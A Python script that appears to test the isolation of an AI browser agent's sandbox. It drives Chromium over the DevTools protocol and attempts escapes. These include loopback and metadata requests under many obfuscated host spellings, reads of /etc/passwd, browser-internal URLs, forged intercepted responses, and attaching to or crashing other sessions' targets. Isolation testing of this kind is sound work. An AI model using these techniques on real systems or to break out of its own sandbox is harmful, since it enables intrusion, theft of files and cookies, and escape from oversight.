"""An agent that drives a browser and tries to get out through its pages: to this machine, its files, other episodes.

Each way is tried against a port of its own; what it got hold of is told at the end. It needs Python and `websockets`.
Its settings are the first argument: what a real one would have to guess.
"""
# It is written as a stranger's program is.
# ruff: noqa: PTH123, T201
# mypy: ignore-errors

import base64
import json
import os
import sys
import time

CHANNELS = {
    "fetch": "return fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => '')",
    "a form of fetch": "return fetch(url, {mode: 'no-cors', method: 'POST', body: 'x'}).then(() => 'answered', () => '')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', url); x.send(); return new Promise(r => { x.onload = () => r('answered'); x.onerror = () => r('') })",
    "WebSocket": "const w = new WebSocket(ws); return new Promise(r => { w.onopen = () => r('open'); w.onerror = () => r('') })",
    "EventSource": "const e = new EventSource(url); return new Promise(r => { e.onopen = () => r('open'); e.onerror = () => { e.close(); r('') } })",
    "image": "const i = new Image(); i.src = url; return new Promise(r => { i.onload = () => r('answered'); i.onerror = () => r('') })",
    "script": "return tag('script', {src: url})",
    "style sheet": "return tag('link', {rel: 'stylesheet', href: url})",
    "frame": "return frame({src: url})",
    "worker": "return worker(`fetch(${JSON.stringify(url)}, {mode: 'no-cors'}).then(() => postMessage('answered'), () => postMessage(''))`)",
    "beacon": "navigator.sendBeacon(url, 'x'); return fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => '')",
}
"""Of scripts; each is tried with every spelling of a host."""

HOSTS = (
    *("127.0.0.1", "127.1", "127.0.0.53", "2130706433", "0x7f000001", "0x7f.1", "017700000001", "0177.0.0.1"),
    *("0", "0.0.0.0", "[::1]", "[::]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]"),
    *(
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "localhost",
        "LOCALHOST",
        "localhost.",
        "a.localhost",
        "t1.shop.localhost",
    ),
    *("%6cocalhost", "①②⑦.0.0.1", "127。0。0。1", "HOSTNAME", "OWN", "169.254.169.254", "[fe80::1]", "[fd00:ec2::254]"),
    *("loop.test", "link.test", "mapped.test", "mixed.test", "metadata.test"),
)
"""HOSTNAME and OWN are this machine's; the names under `.test` stand for addresses of it, see the tests."""

HELPERS = """
const tag = (name, more) => new Promise((r) => {
  const one = Object.assign(document.createElement(name), more);
  one.onload = () => r('answered'); one.onerror = () => r('');
  document.head.append(one);
});
const frame = (more) => new Promise((r) => {
  const one = Object.assign(document.createElement('iframe'), more);
  one.onload = () => setTimeout(() => { one.remove(); r('') }, 50);
  document.body.append(one);
});
const worker = (code) => new Promise((r) => {
  const one = new Worker(URL.createObjectURL(new Blob([code])));
  one.onmessage = (event) => { one.terminate(); r(event.data) };
  one.onerror = () => r('');
});
const later = (ms, value = '') => new Promise((r) => setTimeout(() => r(value), ms));
const style = (text) => { const one = document.createElement('style'); one.textContent = text; document.head.append(one); return later(300) };
const markup = (text) => { const one = document.createElement('div'); one.innerHTML = text; document.body.append(one); return later(300) };
const call = (server, more = {}) => new Promise((r) => {
  const one = new RTCPeerConnection({iceServers: [{urls: server, ...more}]});
  one.createDataChannel('x');
  one.onicecandidate = (event) => { if (!event.candidate) r('') };
  one.createOffer().then((offer) => one.setLocalDescription(offer));
  setTimeout(() => r(''), 1500);
});
"""

SCRIPTS = {
    "video": "return markup(`<video src=${url} autoplay muted></video>`)",
    "audio": "const a = new Audio(url); return new Promise(r => { a.oncanplay = () => r('answered'); a.onerror = () => r(''); a.load() })",
    "object": "return markup(`<object data=${url}></object>`)",
    "embed": "return markup(`<embed src=${url}>`)",
    "track": "return markup(`<video><track default kind=captions src=${url}></video>`)",
    "background of a style": "return style(`body { background: url(${url}) }`)",
    "imported style": "return style(`@import url(${url});`)",
    "font": "return style(`@font-face { font-family: x; src: url(${url}) } body { font-family: x }`)",
    "list image": "return markup(`<ul style='list-style-image:url(${url})'><li>x</ul>`)",
    "picture of SVG": "return markup(`<svg><image href='${url}'/></svg>`)",
    "use of SVG": "return markup(`<svg><use href='${url}#x'/></svg>`)",
    "input image": "return markup(`<input type=image src=${url}>`)",
    "poster": "return markup(`<video poster=${url}></video>`)",
    "source set": "return markup(`<img srcset='${url} 1x'>`)",
    "module": "return import(url).then(() => 'answered', () => '')",
    "import of a worker": "return worker(`try { importScripts(${JSON.stringify(url)}); postMessage('answered') } catch { postMessage('') }`)",
    "WebSocket of a worker": "return worker(`const w = new WebSocket(${JSON.stringify(ws)}); w.onopen = () => postMessage('open'); w.onerror = () => postMessage('')`)",
    "module worker": "return worker(`import(${JSON.stringify(url)}).then(() => postMessage('answered'), () => postMessage(''))`)",
    "shared worker": "const w = new SharedWorker(URL.createObjectURL(new Blob([`onconnect = (e) => fetch(${JSON.stringify(url)}, {mode: 'no-cors'}).then(() => e.ports[0].postMessage('answered'), () => e.ports[0].postMessage(''))`]))); return new Promise(r => { w.port.onmessage = (e) => r(e.data); w.port.start() })",
    "preload": "return tag('link', {rel: 'preload', as: 'image', href: url})",
    "module preload": "return tag('link', {rel: 'modulepreload', href: url})",
    "prefetch": "return Promise.race([tag('link', {rel: 'prefetch', href: url}), later(500)])",
    "icon": "return Promise.race([tag('link', {rel: 'icon', href: url}), fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => '')])",
    "manifest": "document.head.insertAdjacentHTML('beforeend', `<link rel=manifest href=${url}>`); return fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => '')",
    "ping": "document.body.innerHTML = `<a id=p href='#x' ping=${url}>x</a>`; document.getElementById('p').click(); return later(300)",
    "fetch that is kept alive": "return fetch(url, {mode: 'no-cors', keepalive: true}).then(() => 'answered', () => '')",
    "later fetch": "if (!window.fetchLater) return fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => ''); fetchLater(url, {activateAfter: 0}); return later(300)",
    "fetch for the local network": "return fetch(url, {mode: 'no-cors', targetAddressSpace: 'loopback'}).then(() => 'answered', () => '')",
    "fetch of a frame without a document": "const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => '')",
    "fetch of a sandboxed frame": "return new Promise(r => { onmessage = (e) => r(e.data); document.body.insertAdjacentHTML('beforeend', `<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('${url}', {mode: 'no-cors'}).then(() => parent.postMessage('answered', '*'), () => parent.postMessage('', '*'))</script>\"></iframe>`) })",
    "frame of a document's own": "return frame({srcdoc: `<img src=${url}>`})",
    "frame with a refresh": "return frame({srcdoc: `<meta http-equiv=refresh content='0;url=${url}'>`}).then(() => later(300))",
    "frame of data": "return frame({src: `data:text/html,<img src=${url}>`}).then(() => later(300))",
    "frame of a blob": "return frame({src: URL.createObjectURL(new Blob([`<img src=${url}>`], {type: 'text/html'}))}).then(() => later(300))",
    "object in a frame": "return frame({srcdoc: `<object data=${url}></object>`}).then(() => later(300))",
    "frame by script": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = url; return later(300)",
    "form": "document.body.innerHTML = `<iframe name=f></iframe><form method=post target=f action=${url}><input name=a></form>`; document.forms[0].submit(); return later(300)",
    "window": "open(url); return later(300)",
    "window without an opener": "open(url, '_blank', 'noopener'); return later(300)",
    "link to a new tab": "document.body.innerHTML = `<a id=n target=_blank href=${url}>x</a>`; document.getElementById('n').click(); return later(300)",
    "redirect of the site, 302": "return fetch(`/to?302&${url}`, {mode: 'no-cors'}).then(() => 'answered', () => '')",
    "redirect of the site, 307": "return fetch(`/to?307&${url}`, {mode: 'no-cors', method: 'POST', body: 'x'}).then(() => 'answered', () => '')",
    "redirect of a picture": "const i = new Image(); i.src = `/to?301&${url}`; return new Promise(r => { i.onload = () => r('answered'); i.onerror = () => r('') })",
    "redirect of a frame": "return frame({src: `/to?302&${url}`})",
    "redirect of a socket": "const w = new WebSocket(location.href.replace('http', 'ws').replace(/\\/[^/]*$/, `/to?302&${url}`)); return new Promise(r => { w.onopen = () => r('open'); w.onerror = () => r('') }).then(() => fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => ''))",
    "security policy that reports": "return frame({src: `/reports?${url}`}).then(() => later(500))",
    "speculation, prefetch": "document.head.insertAdjacentHTML('beforeend', ''); const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{urls: [url], eagerness: 'immediate'}]}); document.head.append(s); return later(500).then(() => fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => ''))",
    "speculation, prerender": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prerender: [{urls: [url], eagerness: 'immediate'}]}); document.head.append(s); return later(500).then(() => fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => ''))",
    "paint worklet": "return CSS.paintWorklet ? CSS.paintWorklet.addModule(url).then(() => 'answered', () => '') : import(url).then(() => 'answered', () => '')",
    "audio worklet": "return new AudioContext().audioWorklet.addModule(url).then(() => 'answered', () => '')",
    "compression dictionary": "return Promise.race([tag('link', {rel: 'compression-dictionary', href: url}), later(500)]).then(() => fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => ''))",
    "attribution source": "return markup(`<img attributionsrc=${url} src=${url}>`)",
    "cursor": "return style(`body { cursor: url(${url}), auto; background: image-set(url(${url}) 1x) }`)",
    "mask": "return style(`body { -webkit-mask-image: url(${url}); mask: url(${url}#x) }`)",
    "content of a style": "return style(`body::before { content: url(${url}) }`)",
    "border image": "return style(`body { border: 9px solid; border-image: url(${url}) 30 }`)",
    "filter of SVG": "return markup(`<svg width=9 height=9><filter id=f><feImage href='${url}'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>`)",
    "style sheet of XML": "return frame({src: URL.createObjectURL(new Blob([`<?xml-stylesheet type='text/css' href='${url}'?><a/>`], {type: 'text/xml'}))}).then(() => later(300))",
    "transformation of XML": "return frame({src: URL.createObjectURL(new Blob([`<?xml-stylesheet type='text/xsl' href='${url}'?><a/>`], {type: 'text/xml'}))}).then(() => later(300)).then(() => fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => ''))",
    "stream of a socket": "if (!window.WebSocketStream) return new Promise(r => { const w = new WebSocket(ws); w.onopen = () => r('open'); w.onerror = () => r('') }); return new WebSocketStream(ws).opened.then(() => 'open', () => '')",
    "event source of a worker": "return worker(`const e = new EventSource(${JSON.stringify(url)}); e.onopen = () => postMessage('open'); e.onerror = () => { e.close(); postMessage('') }`)",
    "request of a worker": "return worker(`const x = new XMLHttpRequest(); x.open('GET', ${JSON.stringify(url)}, false); try { x.send(); postMessage(x.responseText) } catch { postMessage('') }`)",
    "worker of a worker": 'return worker(`const w = new Worker(URL.createObjectURL(new Blob([\'fetch(\' + ${JSON.stringify(JSON.stringify(url))} + \', {mode: "no-cors"}).then(() => postMessage("answered"), () => postMessage(""))\']))); w.onmessage = (e) => postMessage(e.data)`)',
    "download": "document.body.innerHTML = `<a id=d download=x href=${url}>x</a>`; document.getElementById('d').click(); return later(400)",
    "written window": "const w = open('about:blank'); w.document.write(`<img src=${url}>`); return later(500)",
    "window of a blob": "const w = open(URL.createObjectURL(new Blob([`<img src=${url}>`], {type: 'text/html'}))); return later(500)",
    "window of data": "document.body.innerHTML = `<iframe src=\"data:text/html,<iframe src='data:text/html,<img src=${url}>'></iframe>\"></iframe>`; return later(600)",
    "synchronous request": "try { const x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.responseText } catch { return '' }",
    "user in the address": "return fetch(url.replace('http://', 'http://user:pw@'), {mode: 'no-cors'}).then(() => 'answered', () => fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => ''))",
    "identity provider": "return (window.IdentityCredential ? navigator.credentials.get({identity: {providers: [{configURL: url, clientId: 'x'}]}}).then(() => 'answered', () => '') : Promise.resolve()).then(() => fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => ''))",
    "document in a parser": "const d = new DOMParser().parseFromString(`<img src=${url}>`, 'text/html'); document.body.append(document.adoptNode(d.images[0])); return later(300)",
    "template": "const e = document.createElement('template'); e.innerHTML = `<img src=${url}>`; document.body.append(e.content.cloneNode(true)); return later(300)",
    "frame after navigation": "return frame({src: '/more'}).then(() => new Promise(r => { const f = document.createElement('iframe'); f.src = '/more'; f.onload = () => { f.contentWindow.location.replace(url); setTimeout(() => r(''), 400) }; document.body.append(f) }))",
    "history": "history.pushState(1, '', '/x'); const b = document.createElement('base'); b.href = url; document.head.append(b); const i = new Image(); i.src = 'y'; return later(300)",
    "noopener form": "document.body.innerHTML = `<form target=_blank rel=noopener method=post action=${url}><input name=a></form>`; document.forms[0].submit(); return later(500)",
    "port of the site's host": "return fetch(location.origin.replace(/:\\d+$/, '') + ':1', {mode: 'no-cors'}).then(() => 'answered', () => '').then(() => fetch(url, {mode: 'no-cors'}).then(() => 'answered', () => ''))",
    "TURN over TCP": "return call(`turn:127.0.0.1:${port}?transport=tcp`, {username: 'a', credential: 'b'})",
    "TURN over TLS": "return call(`turns:127.0.0.1:${port}?transport=tcp`, {username: 'a', credential: 'b'})",
}
"""One each, against 127.0.0.1."""

SILENT = {
    "preconnect": "return Promise.race([tag('link', {rel: 'preconnect', href: url}), later(500)])",
    "STUN": "return call(`stun:127.0.0.1:${port}`)",
    "TURN over UDP": "return call(`turn:127.0.0.1:${port}`, {username: 'a', credential: 'b'})",
    "STUN by name": "return call(`stun:localhost:${port}`)",
    "WebTransport": "try { const t = new WebTransport(`https://127.0.0.1:${port}/`); return Promise.race([t.ready.then(() => 'open', () => ''), later(1500)]) } catch { return '' }",
    "name that is looked up": "return Promise.race([tag('link', {rel: 'dns-prefetch', href: url}), later(300)])",
    "service worker": "return navigator.serviceWorker ? navigator.serviceWorker.register(url).then(() => 'answered', () => '') : ''",
    "FTP": "return fetch(url.replace('http', 'ftp'), {mode: 'no-cors'}).then(() => 'answered', () => '')",
    "gopher": "return frame({src: url.replace('http', 'gopher')}).then(() => later(100))",
}
"""Chromium itself tries nothing: there is nothing to count."""

FILE = "file:///etc/passwd"
FILES = {
    "fetch": "return fetch(file).then(r => r.text(), () => '')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', file); x.send(); return new Promise(r => { x.onload = () => r(x.responseText); x.onerror = () => r('') })",
    "frame": "return frame({src: file})",
    "object": "return markup(`<object data=${file}></object>`)",
    "image": "const i = new Image(); i.src = file; return new Promise(r => { i.onload = () => r('answered'); i.onerror = () => r('') })",
    "script": "return tag('script', {src: file})",
    "style sheet": "return tag('link', {rel: 'stylesheet', href: file})",
    "module": "return import(file).then(() => 'answered', () => '')",
    "location": "location.href = file; return later(200)",
    "window": "const w = open(file); return later(300).then(() => { try { return w.document.body.innerText } catch { return '' } })",
    "link": "document.body.innerHTML = `<a id=n target=_blank href=${file}>x</a>`; document.getElementById('n').click(); return later(200)",
    "form": "document.body.innerHTML = `<form target=_blank action=${file}></form>`; document.forms[0].submit(); return later(200)",
    "redirect of a frame": "return frame({src: `/to?302&${file}`})",
    "frame of a document's own": "return frame({srcdoc: `<iframe src=${file}></iframe>`})",
}
REFUSED_BY_CHROMIUM = ("redirected answer", "forged frame")
"""Of the commands that name a file: the page gets an error, and no request is made."""
INNER = (
    *("chrome://version", "chrome://inspect", "chrome://net-export", "chrome://gpu", "chrome://process-internals"),
    *("devtools://devtools/bundled/inspector.html", "chrome-untrusted://x", "chrome-search://local-ntp"),
    *("view-source:file:///etc/passwd", "view-source:http://127.0.0.1/", "filesystem:http://127.0.0.1/temporary/x"),
    *("about:version", "chrome-extension://aapbdbdomjkkjkaonfhkkikfgjllcleb/x", "javascript:alert(1)", "blob:null/x"),
    *("data:text/html,<img src=file:///etc/passwd>", "file:///", "ftp://127.0.0.1/"),
)
"""Addresses of the browser's own."""


class Browser:
    def __init__(self):
        from websockets.sync.client import connect

        self.socket = connect("ws" + os.environ["CAIRN_CDP_URL"][4:] + "/devtools/browser", max_size=None).__enter__()
        self.number, self.events = 0, []
        self.target = next(one for one in self.targets() if one["type"] == "page")["targetId"]
        self.page = self.result("Target.attachToTarget", targetId=self.target, flatten=True)["sessionId"]

    def call(self, method, session=None, **params):
        self.number += 1
        message = {"id": self.number, "method": method, "params": params}
        self.socket.send(json.dumps(message | ({"sessionId": session} if session else {})))
        while True:
            said = json.loads(self.socket.recv(timeout=60))
            if said.get("id") == self.number:
                return said
            self.events.append(said)

    def result(self, method, session=None, **params):
        return self.call(method, session, **params).get("result", {})

    def targets(self):
        return self.result("Target.getTargets")["targetInfos"]

    def script(self, code, session=None):
        asked = "(async () => { " + HELPERS + "\n" + code + " })()"
        expression = "Promise.race([" + asked + ", new Promise((r) => setTimeout(() => r(''), 6000))])"
        answer = self.result(
            "Runtime.evaluate", session or self.page, expression=expression, awaitPromise=True, returnByValue=True
        )
        return str(answer.get("result", {}).get("value", "") or "")

    def start(self):
        """The site's page, alone, with nothing of an earlier try."""
        for one in self.targets():
            if one["type"] == "page" and one["targetId"] != self.target:
                self.call("Target.closeTarget", targetId=one["targetId"])
        self.call("Fetch.disable", self.page)
        self.call("Page.navigate", self.page, url=KNOWN["site"])
        until = time.monotonic() + 20
        while self.script("return document.readyState + location.href") != "complete" + KNOWN["site"]:
            if time.monotonic() > until:
                raise TimeoutError(self.script("return document.readyState + location.href"))
        self.events.clear()

    def text(self):
        return self.script("return document.title + ' ' + document.body.innerText")

    def paused(self):
        """The request that `Fetch.enable` holds; {} = none came."""
        until = time.monotonic() + 3
        while time.monotonic() < until:
            for one in self.events:
                if one["method"] == "Fetch.requestPaused":
                    self.events.clear()
                    return one["params"]
            self.call("Runtime.getIsolateId", self.page)
        return {}

    def intercepted(self, ask, **how):
        """What a page gets for a request that the agent answers, or changes."""
        self.call("Fetch.enable", self.page)
        self.script(ask)
        held = self.paused()
        method = how.pop("method")
        self.call(method, self.page, requestId=held.get("requestId", ""), **how)
        self.call("Fetch.disable", self.page)
        return self.script("return later(500).then(() => window.got || '')")


def value(text):
    return json.dumps(text)


def document(url):
    text = f"<script>fetch({value(url)}).then(r => r.text()).then(t => top.got = t, () => 0)</script>"
    return base64.b64encode(text.encode()).decode()


CONTINUED = "window.got = ''; fetch('/more').then(r => r.text()).then(t => window.got = t, () => 0); return ''"
FRAMED = "const f = document.createElement('iframe'); f.src = '/more'; document.body.append(f); return ''"
COMMANDS = {
    "navigation": lambda browser, url: (browser.call("Page.navigate", browser.page, url=url), browser.text())[1],
    "tab": lambda browser, url: value(browser.call("Target.createTarget", url=url).get("result", "")),
    "location": lambda browser, url: (browser.script(f"location.href = {value(url)}; return later(300)"), "")[1],
    "refresh": lambda browser, url: browser.script(
        f"document.head.innerHTML = `<meta http-equiv=refresh content='0;url={url}'>`; return later(300)"
    ),
    "redirect of the site": lambda browser, url: (
        browser.call("Page.navigate", browser.page, url=KNOWN["site"] + "to?302&" + url),
        browser.text(),
    )[1],
    "continued request": lambda browser, url: browser.intercepted(CONTINUED, method="Fetch.continueRequest", url=url),
    "redirected answer": lambda browser, url: browser.intercepted(
        CONTINUED,
        method="Fetch.fulfillRequest",
        responseCode=302,
        responseHeaders=[{"name": "location", "value": url}, {"name": "access-control-allow-origin", "value": "*"}],
    ),
    "forged frame": lambda browser, url: browser.intercepted(
        f"window.got = ''; frame({{src: {value(url)}}}); return ''",
        method="Fetch.fulfillRequest",
        responseCode=200,
        responseHeaders=[{"name": "content-type", "value": "text/html"}],
        body=document(url),
    ),
    "document's content": lambda browser, url: (
        browser.call("Page.setDocumentContent", browser.page, frameId=browser.target, html=f"<img src='{url}'>"),
        browser.script("return later(300)"),
    )[1],
    "world of its own": lambda browser, url: str(
        browser.result(
            "Runtime.evaluate",
            browser.page,
            contextId=browser.result("Page.createIsolatedWorld", browser.page, frameId=browser.target).get(
                "executionContextId"
            ),
            expression=f"fetch({value(url)}, {{mode: 'no-cors'}}).then(() => 'answered', () => '')",
            awaitPromise=True,
            returnByValue=True,
        )["result"].get("value", "")
    ),
    "script of each document": lambda browser, url: (
        browser.call("Page.enable", browser.page),
        browser.call(
            "Page.addScriptToEvaluateOnNewDocument",
            browser.page,
            source=f"new Image().src = {value(url)}",
        ),
        browser.call("Page.navigate", browser.page, url=KNOWN["site"] + "more"),
        browser.script("return later(300)"),
        browser.call("Page.removeScriptToEvaluateOnNewDocument", browser.page, identifier="1"),
        browser.call("Page.disable", browser.page),
    )[3],
    "refresh that is forged": lambda browser, url: browser.intercepted(
        FRAMED,
        method="Fetch.fulfillRequest",
        responseCode=200,
        responseHeaders=[{"name": "content-type", "value": "text/html"}, {"name": "refresh", "value": "0;url=" + url}],
        body=base64.b64encode(b"<p>x</p>").decode(),
    ),
    "link that is forged": lambda browser, url: browser.intercepted(
        FRAMED,
        method="Fetch.fulfillRequest",
        responseCode=200,
        responseHeaders=[
            {"name": "content-type", "value": "text/html"},
            {"name": "link", "value": f"<{url}>; rel=preload; as=image"},
        ],
        body=base64.b64encode(b"<p>x</p>").decode(),
    ),
    "service worker that is forged": lambda browser, url: (
        browser.intercepted(
            "window.got = ''; navigator.serviceWorker.register('/sw.js').then(() => 0, () => 0); return ''",
            method="Fetch.fulfillRequest",
            responseCode=200,
            responseHeaders=[{"name": "content-type", "value": "text/javascript"}],
            body=base64.b64encode(f"oninstall = () => fetch({value(url)}, {{mode: 'no-cors'}})".encode()).decode(),
        )
        or browser.script(f"return fetch({value(url)}, {{mode: 'no-cors'}}).then(() => 'answered', () => '')")
    ),
}
"""Each is tried with some spellings of a host, and with addresses that are none of the web."""

OTHERS = {
    "attach": lambda browser: browser.result("Target.attachToTarget", targetId=KNOWN["other"], flatten=True),
    "attach from a page": lambda browser: browser.result(
        "Target.attachToTarget", browser.page, targetId=KNOWN["other"], flatten=True
    ),
    "information": lambda browser: browser.result("Target.getTargetInfo", targetId=KNOWN["other"]),
    "activate": lambda browser: browser.call("Target.activateTarget", targetId=KNOWN["other"]).get("result"),
    "close": lambda browser: browser.call("Target.closeTarget", targetId=KNOWN["other"]).get("result"),
    "message": lambda browser: browser.result("Target.sendMessageToTarget", targetId=KNOWN["other"], message="{}"),
    "related": lambda browser: browser.result(
        "Target.autoAttachRelated", targetId=KNOWN["other"], waitForDebuggerOnStart=False
    ),
    "the browser": lambda browser: browser.result("Target.attachToBrowserTarget"),
    "expose": lambda browser: browser.result("Target.exposeDevToolsProtocol", targetId=browser.target),
    "new context": lambda browser: browser.result("Target.createBrowserContext"),
    "its context": lambda browser: browser.result("Target.disposeBrowserContext", browserContextId=KNOWN["context"]),
    "processes": lambda browser: browser.result("SystemInfo.getProcessInfo"),
    "command line": lambda browser: browser.result("Browser.getBrowserCommandLine"),
    "end the browser": lambda browser: browser.result("Browser.close"),
    "crash the browser": lambda browser: browser.result("Browser.crash"),
    "port of the host": lambda browser: browser.result("Tethering.bind", port=KNOWN["free"]),
    "trace": lambda browser: browser.result("Tracing.start"),
    "its session": lambda browser: browser.call("Page.reload", "0123456789ABCDEF0123456789ABCDEF").get("result"),
    "resource of a file": lambda browser: browser.result(
        "Network.loadNetworkResource",
        browser.page,
        url=FILE,
        options={"disableCache": True, "includeCredentials": True},
    ),
    "upload": lambda browser: browser.result("DOM.setFileInputFiles", browser.page, files=["/etc/passwd"], nodeId=1),
    "drag of a file": lambda browser: browser.result(
        "Input.dispatchDragEvent",
        browser.page,
        type="drop",
        x=1,
        y=1,
        data={"items": [], "files": ["/etc/passwd"], "dragOperationsMask": 1},
    ),
    "stream": lambda browser: browser.result("IO.read", browser.page, handle="1"),
    "page of another episode": lambda browser: browser.call("Page.navigate", browser.page, url=KNOWN["devtools"]).get(
        "result"
    ),
    "cookies of its context": lambda browser: [
        one
        for one in browser.result("Storage.getCookies", browserContextId=KNOWN["context"]).get("cookies", [])
        if one["name"] == "of-another"
    ],
    "tab in its context": lambda browser: [
        browser.result("Target.createTarget", url="about:blank", browserContextId=KNOWN["context"]),
        [one for one in browser.targets() if one.get("browserContextId") == KNOWN["context"]],
    ][1],
    "all kinds of targets": lambda browser: [
        one
        for one in browser.result("Target.getTargets", filter=[{"exclude": False}]).get("targetInfos", [])
        if one.get("browserContextId") == KNOWN["context"] or one["type"] == "browser"
    ],
    "its window": lambda browser: browser.result("Browser.getWindowForTarget", targetId=KNOWN["other"]),
    "bounds of a window": lambda browser: browser.result("Browser.getWindowBounds", windowId=1),
    "downloads": lambda browser: browser.result(
        "Browser.setDownloadBehavior", behavior="allow", downloadPath="/tmp", browserContextId=KNOWN["context"]
    ),
    "resolved blob": lambda browser: browser.result("IO.resolveBlob", browser.page, objectId="1"),
    "file of an element": lambda browser: browser.result("DOM.getFileInfo", browser.page, objectId="1"),
    "extension": lambda browser: browser.result("Extensions.loadUnpacked", path="/tmp"),
    "data of all": lambda browser: browser.call(
        "Storage.clearDataForOrigin", browser.page, origin="*", storageTypes="all"
    ).get("result"),
    "histograms": lambda browser: browser.result("Browser.getHistograms"),
    "command of the browser": lambda browser: browser.call(
        "Browser.executeBrowserCommand", commandId="openTabSearch"
    ).get("result"),
    "remote locations": lambda browser: browser.call(
        "Target.setRemoteLocations", locations=[{"host": "127.0.0.1", "port": KNOWN["free"]}]
    ).get("result"),
    "heap": lambda browser: browser.call("HeapProfiler.takeHeapSnapshot", browser.page).get("result"),
    "debugger": lambda browser: browser.call("Debugger.enable", browser.page).get("result"),
    "crash a page": lambda browser: browser.call("Page.crash", browser.page).get("result"),
}
"""Other episodes, and the browser as a whole."""


def ways():
    """Name to a function of a browser and a URL, and the address that it is to reach; {port} is one of its own."""
    found = {}
    for host in HOSTS:
        shown = host.replace("HOSTNAME", KNOWN.get("hostname", host)).replace("OWN", KNOWN.get("own", host))
        for channel, code in CHANNELS.items():
            found[f"{channel} to {host}"] = (code, f"http://{shown}:{{port}}/")
        for channel in ("navigation", "location"):
            found[f"{channel} to {host}"] = (COMMANDS[channel], f"http://{shown}:{{port}}/")
    for host in ("127.0.0.1", "localhost", "[::1]", "loop.test"):
        for name, command in COMMANDS.items():
            found[f"{name} to {host}"] = (command, f"http://{host}:{{port}}/")
    found |= {name: (code, "http://127.0.0.1:{port}/") for name, code in (SCRIPTS | SILENT).items()}
    found |= {f"file, {name}": (code, FILE + "?{port}") for name, code in FILES.items()}
    for name in ("navigation", "tab", "location", "continued request", "redirected answer", "forged frame"):
        found[f"file, {name}"] = (COMMANDS[name], FILE + "?{port}")
    for inner in INNER:
        for name in ("navigation", "tab"):
            found[f"{name} to {inner}"] = (COMMANDS[name], inner + "#{port}")
    return found | {f"others, {name}": (command, "") for name, command in OTHERS.items()}


def tried(browser, code, url, port):
    if not isinstance(code, str):
        return code(browser, url) if url else code(browser)
    known = {"url": url, "ws": url.replace("http", "ws", 1), "port": port, "file": url}
    return browser.script("".join(f"const {name} = {value(one)};" for name, one in known.items()) + code)


if __name__ == "__main__":
    KNOWN = json.loads(open(sys.argv[1]).read())
    browser, got = Browser(), {}
    for name, port in KNOWN["ports"].items():
        code, url = ways()[name]
        begun = time.monotonic()
        try:
            browser.start()
            got[name] = tried(browser, code, url.format(port=port), port)
        except Exception as error:
            got[name] = f"FAILED {error!r}"
        print(f"{time.monotonic() - begun:.2f} s: {name}", file=sys.stderr)
    print(json.dumps({"answer": json.dumps(got)}))
else:
    KNOWN = {}
